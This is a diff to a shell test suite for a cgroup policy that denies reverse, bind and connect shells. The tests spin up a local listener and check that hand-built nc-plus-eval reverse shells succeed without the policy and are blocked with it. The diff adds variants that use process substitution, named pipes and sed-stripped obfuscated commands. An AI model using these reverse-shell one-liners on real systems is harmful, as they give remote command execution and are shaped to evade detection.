@@ -35,7 +35,7 @@ if kind == "pipe":
     p = subprocess.Popen([script], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
     out = p.stdout.read()
 elif kind == "line":
-    p = subprocess.Popen(["sh", "-c", open(script).read()], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+    p = subprocess.Popen(["bash", "-c", open(script).read()], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
     out = p.stdout.read()
 else:
     pairs = [socket.socketpair() for _ in range(3)]
@@ -51,6 +51,7 @@ cat >script <<'END'
 #!/bin/bash
 log() { while read -r line; do echo "row $line"; done; }
 for i in 1 2 3; do echo "r$i"; sleep 0.5; done | log | tail -n 2
+while read -r line; do echo "row $line"; done < <(for i in 4 5 6; do echo "r$i"; sleep 0.5; done) 2>&1
 echo end-$((40+2))
 END
 chmod +x script
@@ -61,6 +62,7 @@ govern loops "$cg" <<<'shells: {reverse: deny, bind: deny, connect: deny}'
 for kind in pipe line pairs; do
 	allowed "a loop in a script: $kind" in_cgroup "$cg" $python service.py $kind "$dir/script"
 	contains "$kind: it has run" 'row r3' echo "$out"
+	contains "$kind: and the script itself reads" 'row r6' echo "$out"
 	contains "$kind: to its end" end-42 echo "$out"
 done
 
@@ -94,14 +96,14 @@ print("ready", flush=True)
 try:
     c = s.accept()[0]
     c.settimeout(8)
-    c.sendall(b"echo GOT$((40+2))\n")
+    c.sendall(sys.argv[1].encode() + b"\n")
     print("owned" if b"GOT42" in c.recv(4096) else "nothing", flush=True)
 except OSError:
     print("nothing", flush=True)'
 mkfifo fifo
 attack() {
 	rm -f said
-	$python -c "$attacker" >said &
+	$python -c "$attacker" "${3:-echo GOT\$((40+2))}" >said &
 	local listens=$!
 	poll grep -q ready said
 	in_cgroup "$1" bash -c "$2" >/dev/null 2>&1 </dev/null &
@@ -111,7 +113,16 @@ attack() {
 }
 relay='nc 127.0.0.1 4362 <fifo | while read -r l; do eval "$l"; done >fifo 2>&1'
 through='nc 127.0.0.1 4362 <fifo | cat | while read -r l; do eval "$l"; done >fifo 2>&1'
+# The script itself reads what it opened, and what comes is not what it executes.
+mkfifo other
+coded='exchxo GxOT$((40+2))'
+itself='while read -r l; do eval "$l"; done < <(nc 127.0.0.1 4362 <fifo | sed -u s/x//g) >fifo 2>&1'
+named='nc 127.0.0.1 4362 <fifo | sed -u s/x//g >other & while read -r l; do eval "$l"; done <other >fifo 2>&1'
 free=$(cgroup free)
+for name in itself named; do
+	contains "without a policy: $name" owned attack "$free" "${!name}" "$coded"
+	lacks "$name: is stopped" owned attack "$cg" "${!name}" "$coded"
+done
 contains 'without a policy: the loop is a shell' owned attack "$free" "$relay"
 contains 'without a policy: behind cat' owned attack "$free" "$through"
 lacks 'the loop is a shell: is stopped' owned attack "$cg" "$relay"
